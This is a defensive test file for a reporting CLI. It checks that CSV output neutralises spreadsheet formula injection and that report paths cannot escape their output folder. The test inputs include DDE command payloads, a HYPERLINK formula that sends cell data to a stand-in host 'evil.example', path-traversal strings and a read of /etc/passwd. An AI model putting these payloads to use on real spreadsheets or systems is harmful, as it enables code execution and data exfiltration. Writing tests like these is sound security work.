// Files an auditor opens and paths a user types:
// - CSV formula injection (src/reports/render/csv.ts): for any text, the cell a
//   spreadsheet reads back never starts like a formula (= + - @ tab CR), and nothing but
//   the defusing apostrophe is added (property-based, fast-check); a report whose
//   upstream text is hostile renders CSV populations with every cell defused.
// - Path traversal: report file names are built from the framework, the period and the
//   content hash only, so they stay inside --out; a period or framework that tries to
//   climb out is refused; `verify` of a path outside the data folder is a clear failure.
import { mkdtempSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { csvCell, renderCsvFiles } from '../../src/reports/render/csv.js';
import { postgresAvailable } from '../support/database.js';
import { createTestDatabase } from '../support/database.js';
import { sampleReportModel } from '../support/sample-model.js';
import { runCli } from './harness.js';

const FORMULA = /^[=+\-@\t\r]/;
const CSV_RUNS = Number(process.env['RELIABILITY_CSV_RUNS'] ?? 2000);

describe('CSV formula injection', () => {
  it(`any text as a cell reads back as that text, defused when it starts like a formula (${CSV_RUNS} runs)`, () => {
    const text = fc.oneof(
      fc.string(),
      fc.string({ unit: 'binary' }),
      fc
        .tuple(
          fc.constantFrom('=', '+', '-', '@', '\t', '\r', "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|', '=HYPERLINK("http://x","y")', '-2+3'),
          fc.string(),
        )
        .map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(text, (value) => {
        const line = `${csvCell(value)},end\r\n`;
        const [row] = parse(line, { relax_quotes: false, bom: false }) as string[][];
        const cell = row![0]!;
        expect(FORMULA.test(cell)).toBe(false);
        expect(cell).toBe(FORMULA.test(value) ? `'${value}` : value);
      }),
      { numRuns: CSV_RUNS, seed: 5 },
    );
  });

  it('a report whose upstream text is hostile renders no CSV cell that starts like a formula', () => {
    const model = sampleReportModel({ accounts: 20, events: 100, seed: 11 });
    let planted = 0;
    const plant = (value: unknown) => {
      // Every string in the populations becomes a formula, keeping its type.
      if (Array.isArray(value)) value.forEach(plant);
      else if (value && typeof value === 'object') {
        for (const [key, child] of Object.entries(value as Record<string, unknown>)) {
          if (typeof child === 'string') {
            (value as Record<string, unknown>)[key] = `=HYPERLINK("http://evil.example/?"&A1,"${child}")`;
            planted++;
          } else plant(child);
        }
      }
    };
    plant(model.populations);
    plant(model.findings);
    expect(planted).toBeGreaterThan(50);
    let cells = 0;
    for (const file of renderCsvFiles(model)) {
      const rows = parse(file.content, { bom: true }) as string[][];
      for (const row of rows.slice(1)) {
        for (const cell of row) {
          cells++;
          expect(FORMULA.test(cell), `${file.name}: ${cell.slice(0, 40)}`).toBe(false);
        }
      }
    }
    expect(cells).toBeGreaterThan(planted / 2);
  });
});

describe.runIf(await postgresAvailable())('path traversal through the CLI', () => {
  it('report files stay inside --out; periods and frameworks that climb out are refused; verify outside paths fails clearly', async () => {
    const database = await createTestDatabase();
    const dataDir = mkdtempSync(path.join(tmpdir(), 'traversal-'));
    const out = path.join(dataDir, 'nested', 'out');
    const env = { DATABASE_URL: database.url, ACCESSTRAIL_DATA_DIR: dataDir, ACCESSTRAIL_LOG_LEVEL: 'warn' };
    try {
      const report = await runCli(['report', '--framework', 'soc2', '--period', '2026-Q1', '--out', out], env);
      expect(report.code, report.stderr).toBe(0);
      const written = readdirSync(out);
      expect(written.length).toBeGreaterThanOrEqual(4);
      for (const name of written) expect(name).toMatch(/^soc2-2026-Q1-[0-9a-f]{12}[A-Za-z0-9.-]*$/);
      for (const line of report.stdout.split('\n').filter((l) => /sha256 [0-9a-f]{64}$/.test(l) && l.includes('/'))) {
        const file = line.trim().split(/\s+/)[1]!;
        expect(path.resolve(file).startsWith(path.resolve(out) + path.sep), line).toBe(true);
      }
      for (const args of [
        ['--framework', 'soc2', '--period', '../../../tmp/x'],
        ['--framework', 'soc2', '--period', '2026-Q1/../../x'],
        ['--framework', '../../soc2', '--period', '2026-Q1'],
        ['--framework', 'soc2', '--from', '../x', '--to', '2026-02-01'],
      ]) {
        const refused = await runCli(['report', ...args, '--out', out], env);
        expect(refused.code, args.join(' ')).toBe(2);
        expect(refused.stderr.trim().split('\n')).toHaveLength(1);
        expect(refused.stderr).toMatch(/^accesstrail: /);
      }
      const verify = await runCli(['verify', '/etc/passwd', path.join(out, '..', '..', '..', 'nothing-here.json')], env);
      expect(verify.code).toBe(1);
      expect(verify.stdout + verify.stderr).not.toMatch(/root:/);
      expect(verify.stderr.trim().split('\n')).toHaveLength(1);
    } finally {
      await database.drop();
    }
  }, 300_000);
});
